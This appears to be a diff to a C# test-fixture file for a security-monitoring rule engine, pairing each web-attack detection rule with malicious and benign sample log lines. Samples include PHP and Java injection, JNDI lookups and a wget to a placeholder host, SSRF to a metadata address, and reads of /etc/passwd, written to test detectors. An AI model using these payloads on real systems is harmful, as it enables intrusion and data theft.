@@ -12,6 +12,9 @@ internal static class RuleSamples
     private const string Web = "event.dataset=apache.access; event.category=web; event.action=http_request; source.ip=203.0.113.7; ";
     private const string Url = Web + "soc.url.decoded=";
     private const string Agent = Web + "user_agent.original=";
+    private const string Text = Web + "soc.http.request.header_count=3; soc.http.request.text=";
+    private const string Breach = Web + "soc.http.request.header_count=3; soc.http.request.breach=";
+    private const string Response = Web + "http.response.body.content=";
     private const string Firefox = Agent + "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
 
     public static readonly IReadOnlyDictionary<string, RuleSample> ByRule = new Dictionary<string, RuleSample>
@@ -56,7 +59,50 @@ internal static class RuleSamples
             [Url + "/ping?host=127.0.0.1;cat /etc/passwd", Url + "/x?q=${jndi:ldap://198.51.100.1/a}", Agent + "() { :;}; /bin/bash -c 'id'", Agent + "${jndi:ldap://198.51.100.1/a}", Url + "/x?c=`whoami`", Url + "/x?c=a|wget http://198.51.100.1/x", Url + "/x?c=$(id)", Url + "/x?cmd=cat /etc/hosts", Url + "/scripts/..%5c/cmd.exe?/c+dir"],
             [Url + "/cats?id=4;type=big", Url + "/fonts?family=open+sans|roboto", Url + "/a?cat=5&id=7&find=x", Agent + "Opera/9.80 (MTK; Opera Mini/2.1199/34.1244; U; id) Presto/2.8.119 Version/11.10", Agent + "Mozilla/5.0 (compatible; MSIE 10.0; ARM; Touch; NOKIA; Lumia 920)", Firefox]),
         ["web_scanner_agent"] = new([Agent + "sqlmap/1.8#stable (https://sqlmap.org)", Agent + "Mozilla/5.00 (Nikto/2.5.0)", Agent + "Mozilla/5.0 zgrab/0.x"], [Firefox, Agent + "Mozilla/5.0 (compatible; Googlebot/2.1)"]),
+        ["web_php_injection"] = new(
+            [Url + "/i?c=<?php system('id'); ?>", Url + "/i?f=php://input", Text + "o:8:\"stdclass\":0:{}", Text + "x=$_post['c']", Text + "auto_prepend_file = /tmp/x"],
+            [Url + "/i?q=php+tutorial", Url + "/index.php?id=4", Text + "name=ann&price=4$", Firefox]),
+        ["web_php_function"] = new([Url + "/i?c=phpinfo()", Text + "c=base64_decode('x')", Text + "c=array_map ('x')"], [Url + "/i?c=phpinfo", Text + "see also (chapter 4)", Url + "/wiki/set_(mathematics)"]),
+        ["web_java_injection"] = new(
+            [Text + "x=java.lang.runtime", Text + "x=${jndi:ldap://198.51.100.1/a}", Text + "ro0abqxz", Agent + "${jndi:ldap://198.51.100.1/a}", Url + "/?class.module.classloader.x=1", Text + "x=%{(#a=@ognl.ognlcontext@x)}"],
+            [Url + "/java/tutorial", Url + "/search?q=runtime+error", Text + "price=4&currency=$", Firefox]),
+        ["web_script_injection"] = new(
+            [Url + "/?q={{7*7}}", Text + "__proto__[a]=1", Text + "x=require('child_process').exec('id')", Url + "/?user__password__startswith=a", Text + "x=<%= 7 %>"],
+            [Url + "/?q=function+of+the+heart", Url + "/?tpl=a_b", Text + "name=ann {draft}", Firefox]),
+        ["web_request_forgery"] = new(
+            [Url + "/?u=http://169.254.169.254/latest/meta-data/", Url + "/?u=http://127.0.0.1:22/", Url + "/?u=http://0x7f000001/", Text + "u=gopher://198.51.100.1/x", Url + "/?u=http://2130706433/"],
+            [Url + "/?u=http://www.example.com/a", Url + "/?v=1.2.3&n=12", Url + "/?q=localhost4life", Url + "/cover/5?c=1746230055", Firefox]),
+        ["web_remote_file_inclusion"] = new([Url + "/?page=http://198.51.100.1/x.txt", Url + "/?page=http://example.com/x.php?"], [Url + "/?page=http://example.com/x", Url + "/?page=home", Firefox]),
+        ["web_foreign_address"] = new([Web + "soc.http.request.header_count=3; soc.url.decoded=/?to=https://example.com/"], [Url + "/?to=https://example.com/", Web + "soc.http.request.header_count=3; soc.url.decoded=/?to=home"]),
+        ["web_header_injection"] = new(
+            [Url + "/?x=a\nset-cookie: a=b", Text + "x=a\nlocation: http://example.com", Text + "x=get /admin http/1.1", Text + "x=a\nrcpt to: <a@example.com>"],
+            [Url + "/?x=a set-cookie", Text + "dear ann\nsee you", Url + "/http/1", Firefox]),
+        ["web_ldap_injection"] = new([Url + "/?u=admin)(&(objectclass=*)", Text + "u=*)(uid=*"], [Url + "/wiki/set_(mathematics)", Text + "a (b) and (c)", Firefox]),
+        ["web_http_violation"] = new(
+            [Breach + "body_not_expected", Header("content-type=multipart/unknown"), Header("accept-encoding=xxxx"), Web + "soc.http.request.header_count=3; http.request.method=JEFF", Header("cache-control=a=b")],
+            [Web + "http.request.method=JEFF", Header("content-type=application/json;charset=utf-8"), Header("accept-encoding=gzip, deflate, br;q=0.9"), Web + "soc.http.request.header_count=3; http.request.method=GET", Header("cache-control=max-age=0, no-cache"), Breach + "body_without_length"]),
+        ["web_http_smuggling"] = new([Breach + "length_and_coding", Breach + "content_length"], [Breach + "missing_host", Firefox]),
+        ["web_multipart_evasion"] = new(
+            [Text + "content-disposition: form-data;name=\"a=b\"", Text + "content-disposition: form-data;name=\"a\"\ncontent-type: text/plain;charset=utf-7\n"],
+            [Text + "content-disposition: form-data;name=\"file\";filename=\"cv.pdf\"", Text + "name=\"a=b\""]),
+        ["web_backup_file"] = new([Url + "/site.bak", Url + "/db.sql?x=1", Url + "/key.pem"], [Url + "/old/index.html", Url + "/page?f=x.bak", Url + "/key.html", Url + "/data/migrations/1548957970627_payees.sql", Firefox]),
+        ["web_session_fixation"] = new([Url + "/login?phpsessid=abc", Text + "{\"jsessionid\":\"foo\"}", Url + "/?x=document.cookie='a=b; domain=.example.com'"], [Url + "/?inside=1", Url + "/sessions/4", Text + "side=left", Firefox]),
+        ["web_file_upload"] = new(
+            [Header("x-filename=a.php"), Header("x-file-name=shell.jsp"), Text + "content-disposition: form-data;name=\"f\";filename=\"a.phtml\"\n", Header("x-filename=sess_0123456789abcdef0")],
+            [Header("x-filename=cv.pdf"), Text + "content-disposition: form-data;name=\"f\";filename=\"cv.pdf\"\n", Text + "see a.php"]),
+        ["web_response_leak"] = new([Response + "You have an error in your SQL syntax near", Response + "java.lang.NullPointerException", Response + "<?php echo 1; ?>"], [Response + "<?xml version='1.0'?><a/>", Response + "<html>Welcome</html>"]),
+        ["web_shell_response"] = new([Response + "<html><title>c99shell</title>"], [Response + "c99shell", Response + "<html><title>Welcome</title>"]),
+        ["web_command_fragment"] = new(
+            [Text + "x=whoami", Text + "x=;ls -la", Text + "x=/???/c?t", Web + "soc.http.request.header_count=3; user_agent.original=cat /etc/passwd", Text + "x=alias a=b"],
+            [Url + "/?x=whoami", Text + "x=tell me who i am", Text + "name=head of sales", Web + "soc.http.request.header_count=3; user_agent.original=curl/8.5.0", Web + "soc.http.request.header_count=3; user_agent.original=Mozilla/5.0 (X11; U; id)"]),
+        ["web_sql_fragment"] = new(
+            [Text + "x=concat(1,2)", Text + "x= or 1=1", Text + "x=is null", Text + "x=order by 4"],
+            [Url + "/?x=concat(1,2)", Text + "dear ann, how are you", Text + "{\"name\":\"ann\",\"age\":\"30\"}", Text + "turn left (at the church)"]),
+        ["web_markup_fragment"] = new([Text + "x=-->", Text + "x=<b onclick=x>", Text + "x=java script:"], [Text + "a < 4 and b > 5", Text + "condition: good", Url + "/?x=-->"]),
         ["web_not_found"] = new([Web + "http.response.status_code=404"], [Web + "http.response.status_code=200"]),
         ["web_request"] = new([Web + "http.response.status_code=200"], ["event.category=web; event.action=http_error", "event.category=process; event.action=http_request"]),
     }.Concat(WindowsRuleSamples.ByRule).ToDictionary();
+
+    // First, because a name with a dash does not end the value before it.
+    private static string Header(string pair) => $"http.request.headers.{pair}; {Web}soc.http.request.header_count=3";
 }
